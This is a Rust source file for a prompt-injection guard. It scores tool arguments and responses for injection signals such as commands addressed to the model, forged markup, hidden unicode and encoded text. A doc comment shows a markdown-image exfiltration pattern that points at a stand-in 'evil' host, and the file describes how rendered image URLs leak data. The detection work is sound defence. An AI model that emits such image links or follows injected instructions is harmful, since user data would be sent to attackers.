//! prompt-injection: scores the strings of tool arguments and responses for weighted
//! injection signals. Each string is split into sentences; rules tag features (an
//! imperative verb, an object, a destination, words addressed to the model, forged
//! markup, ...) and combinations of features in one sentence become categories
//! ([`catalog::COMBOS`]). Score = sum of the weights of the distinct categories found
//! anywhere in the payload: at or above `deny_threshold` → deny `prompt_injection`, at or
//! above `warn_threshold` → warn, else allow. Base64 runs that decode to text are scanned
//! the same way (at most [`MAX_DECODED_RUNS`] runs and [`MAX_DECODED_BYTES`] per payload).
//!
//! Cost is linear in the payload: each string is lowercased and split into words in one
//! pass ([`guard_kit::text::Normalized`]), phrase rules start only at words that begin a
//! rule (one hash lookup per word), and markers are found in one pass.

pub mod catalog;
pub mod settings;

use guard_kit::rules::{Prebuilt, RuleSet};
use guard_kit::signals::{self, AddressFeatures, Sightings};
use guard_kit::text::Normalized;
use guard_kit::vocab;
use guard_kit::{Context, Guard, Host, Level, Verdict, json};
use guard_kit::{decode, find};
use serde_json::{Value, json};

pub use settings::Settings;

/// Deny code.
pub const CODE: &str = "prompt_injection";

/// [`catalog::built_in`], indexed by `build.rs`, so a call does not index it again.
static BUILT_IN: Prebuilt = include!(concat!(env!("OUT_DIR"), "/built_in.rs"));

/// The built-in rules.
pub fn rule_set() -> RuleSet {
    RuleSet::prebuilt(&BUILT_IN)
}

/// Longest evidence kept per finding, in characters.
const EVIDENCE_CHARS: usize = 80;
/// Base64 runs decoded and rescanned per payload, at most.
pub const MAX_DECODED_RUNS: usize = 16;
/// Bytes of base64 decoded per payload, at most.
pub const MAX_DECODED_BYTES: usize = 64 * 1024;

/// The first sighting of one category.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    /// Category name (see [`catalog::CATEGORIES`]).
    pub category: &'static str,
    /// The category's configured weight.
    pub weight: f64,
    /// JSON Pointer of the string it was found in ("" for the root or non-JSON text).
    pub path: String,
    /// What matched, shortened.
    pub evidence: String,
}

/// The outcome of a scan.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Report {
    /// Sum of the weights of the distinct categories found.
    pub score: f64,
    /// One finding per category, in the order first seen.
    pub findings: Vec<Finding>,
}

/// A compiled scanner; reuse it across payloads to compile the rules once.
pub struct Scanner<'s> {
    settings: &'s Settings,
    rules: RuleSet,
    norm: Normalized,
    decoded: Normalized,
    sightings: Sightings,
    /// Base64 runs and bytes decoded so far in this payload.
    decoded_budget: (usize, usize),
    report: Report,
}

impl<'s> Scanner<'s> {
    /// A scanner for `settings`.
    pub fn new(settings: &'s Settings) -> Self {
        Scanner {
            settings,
            rules: rule_set(),
            norm: Normalized::default(),
            decoded: Normalized::default(),
            sightings: Sightings::default(),
            decoded_budget: (0, 0),
            report: Report::default(),
        }
    }

    /// Scans every string of a JSON document; text that is not JSON is scanned as one string.
    pub fn scan_json(&mut self, text: &str) -> Report {
        self.report = Report::default();
        self.decoded_budget = (0, 0);
        match serde_json::from_str::<Value>(text) {
            Ok(value) => {
                json::for_each_string(&value, &mut |visit, s| self.string(visit.pointer, s))
            }
            Err(_) => self.string("", text),
        }
        std::mem::take(&mut self.report)
    }

    /// Scans one piece of text.
    pub fn scan_text(&mut self, text: &str) -> Report {
        self.report = Report::default();
        self.decoded_budget = (0, 0);
        self.string("", text);
        std::mem::take(&mut self.report)
    }

    fn string(&mut self, path: &str, s: &str) {
        self.norm.reset(s);
        if let Some(h) = self.norm.hidden.iter().find(|h| h.count > 0) {
            self.add(catalog::HIDDEN_UNICODE, path, h.evidence());
        }
        let mut hits = Vec::new();
        combine(&self.rules, &self.norm, &mut self.sightings, &mut |c, e| {
            hits.push((c, e))
        });
        if let Some(evidence) = markdown_image_exfiltration(&self.norm.lower) {
            hits.push((catalog::DATA_EXFILTRATION, evidence));
        }
        let mut decoded: Vec<(&str, String)> = Vec::new();
        for &(start, end) in &self.norm.base64_runs {
            let (runs, bytes) = self.decoded_budget;
            if runs >= MAX_DECODED_RUNS || bytes + (end - start) > MAX_DECODED_BYTES {
                break;
            }
            self.decoded_budget = (runs + 1, bytes + (end - start));
            if let Some(text) =
                decode::decode_base64(&s[start..end]).filter(|d| mostly_printable(d))
            {
                decoded.push(("base64", String::from_utf8_lossy(&text).into_owned()));
            }
        }
        let (runs, bytes) = self.decoded_budget;
        if runs < MAX_DECODED_RUNS {
            let hints = decode::DecodeHints {
                rot13: self.sightings.all() & (1 << catalog::ROT13_HINT) != 0,
                reversed: self.sightings.all() & (1 << catalog::REVERSED_HINT) != 0,
            };
            let others =
                decode::decode_obfuscations(s, &self.norm, MAX_DECODED_BYTES - bytes, hints);
            let taken = others.len().min(MAX_DECODED_RUNS - runs);
            self.decoded_budget = (runs + taken, bytes + s.len() * usize::from(taken > 0));
            decoded.extend(others.into_iter().take(taken));
        }
        for (kind, text) in decoded {
            self.decoded.reset(&text);
            let before = hits.len();
            combine(
                &self.rules,
                &self.decoded,
                &mut self.sightings,
                &mut |c, e| hits.push((c, format!("{kind}: {e}"))),
            );
            if hits.len() > before {
                hits.push((
                    catalog::ENCODED_PAYLOAD,
                    format!("{kind} text: {}", self.decoded.word_text),
                ));
            }
        }
        for (category, evidence) in hits {
            self.add(category, path, evidence);
        }
    }

    fn add(&mut self, category: usize, path: &str, evidence: String) {
        let (name, _) = catalog::CATEGORIES[category];
        let weight = self.settings.weights[category];
        if weight <= 0.0 || self.report.findings.iter().any(|f| f.category == name) {
            return;
        }
        let evidence = evidence.chars().take(EVIDENCE_CHARS).collect();
        self.report.score += weight;
        self.report.findings.push(Finding {
            category: name,
            weight,
            path: path.to_string(),
            evidence,
        });
    }
}

/// Runs the rules over one normalized text and reports each category its feature
/// combinations reach, with evidence.
fn combine(
    rules: &RuleSet,
    norm: &Normalized,
    sightings: &mut Sightings,
    on_match: &mut dyn FnMut(usize, String),
) {
    sightings.clear();
    rules.scan(norm, &mut |hit| {
        sightings.add(hit.sentence, hit.category, &hit.evidence);
        if hit.clause_start && catalog::VERBS & (1 << hit.category) != 0 {
            sightings.add(hit.sentence, catalog::IMPERATIVE, &hit.evidence);
        }
    });
    let ids = AddressFeatures {
        email: catalog::EMAIL,
        host: catalog::URL,
        ident: catalog::IDENT,
        named_tool: catalog::NAMED_TOOL,
    };
    signals::add_addresses(norm, sightings, catalog::NEEDS_ADDRESSES, ids);
    sightings.demote(catalog::META_FEATURE, catalog::QUOTABLE, catalog::QUOTED);
    let lower = &norm.lower;
    for (from, to) in find::urls(lower) {
        let url = &lower[from..to];
        if vocab::url_carries_data(url) {
            sightings.add(norm.sentence_of_byte(from), catalog::URL_DATA, url);
        }
        if vocab::url_has_query_placeholder(url) {
            sightings.add(norm.sentence_of_byte(from), catalog::URL_PLACEHOLDER, url);
        }
    }
    sightings.combine(catalog::COMBOS, catalog::STICKY, on_match);
}

/// A markdown image whose URL carries a query string (`![x](https://evil/?d=...)`), the
/// classic way to make a client leak data by rendering an image.
fn markdown_image_exfiltration(lower: &str) -> Option<String> {
    const ALT_MAX: usize = 200;
    const URL_MAX: usize = 2_000;
    let bytes = lower.as_bytes();
    let mut from = 0;
    while let Some(at) = lower[from..].find("![").map(|p| p + from) {
        let rest = &bytes[at..];
        let window = &rest[..rest.len().min(ALT_MAX)];
        if let Some(close) = window.windows(6).position(|w| w == b"](http") {
            let tail = &rest[close..rest.len().min(close + URL_MAX)];
            let url_end = close + tail.iter().position(|&b| b == b')').unwrap_or(tail.len());
            let url = &rest[close + 2..url_end];
            if url.contains(&b'?') && url.contains(&b'=') {
                return Some(String::from_utf8_lossy(&rest[..url_end]).into_owned());
            }
        }
        from = at + 2;
    }
    None
}

fn mostly_printable(bytes: &[u8]) -> bool {
    let printable = bytes
        .iter()
        .filter(|&&b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\t')
        .count();
    bytes.len() >= 12 && printable * 10 >= bytes.len() * 9
}

/// The verdict for a report; `what` names the payload in messages.
pub fn verdict(report: &Report, what: &str, settings: &Settings) -> Verdict {
    let summary = report
        .findings
        .iter()
        .map(|f| format!("{} at {}", f.category, display_path(&f.path)))
        .collect::<Vec<_>>();
    let score = guard_kit::settings::number_json(report.score);
    if report.score > 0.0 && report.score >= settings.deny_threshold {
        let details = json!({
            "score": score,
            "deny_threshold": guard_kit::settings::number_json(settings.deny_threshold),
            "findings": report.findings.iter().map(|f| json!({
                "category": f.category,
                "weight": guard_kit::settings::number_json(f.weight),
                "path": f.path,
                "evidence": f.evidence,
            })).collect::<Vec<_>>(),
        });
        let message = format!(
            "Prompt injection detected in {what} (score {score}): {}",
            summary.join(", ")
        );
        return Verdict::deny(CODE, message, details);
    }
    if report.score > 0.0 && report.score >= settings.warn_threshold {
        return Verdict::Warn(vec![format!(
            "possible prompt injection in {what} (score {score}, deny at {}): {}",
            settings.deny_threshold,
            summary.join(", ")
        )]);
    }
    Verdict::Allow
}

fn display_path(path: &str) -> &str {
    if path.is_empty() { "/" } else { path }
}

/// Phase `tool_invoke`: screens the argument strings.
pub fn evaluate_tool_invoke(arguments: &str, settings: &Settings) -> Verdict {
    verdict(
        &Scanner::new(settings).scan_json(arguments),
        "tool arguments",
        settings,
    )
}

/// Phase `response`: screens the response strings.
pub fn evaluate_response(response: &str, settings: &Settings) -> Verdict {
    verdict(
        &Scanner::new(settings).scan_json(response),
        "response",
        settings,
    )
}

/// The guard, for [`guard_kit::export_guard!`].
pub struct PromptInjection;

fn logged(host: &dyn Host, verdict: Verdict) -> Verdict {
    if let Verdict::Deny(reason) = &verdict {
        host.log(Level::Warn, &reason.message);
    }
    verdict
}

impl Guard for PromptInjection {
    fn settings_schema() -> String {
        Settings::schema()
    }

    fn default_config() -> String {
        Settings::default().to_json()
    }

    fn tool_invoke(
        host: &dyn Host,
        _tool: &str,
        arguments: &str,
        _ctx: &Context,
    ) -> Result<Verdict, String> {
        Ok(logged(
            host,
            evaluate_tool_invoke(arguments, &Settings::from_host(host)?),
        ))
    }

    fn response(host: &dyn Host, response: &str, _ctx: &Context) -> Result<Verdict, String> {
        Ok(logged(
            host,
            evaluate_response(response, &Settings::from_host(host)?),
        ))
    }
}

guard_kit::export_guard!(crate::PromptInjection);

#[cfg(test)]
mod tests;

#[cfg(test)]
mod examples;
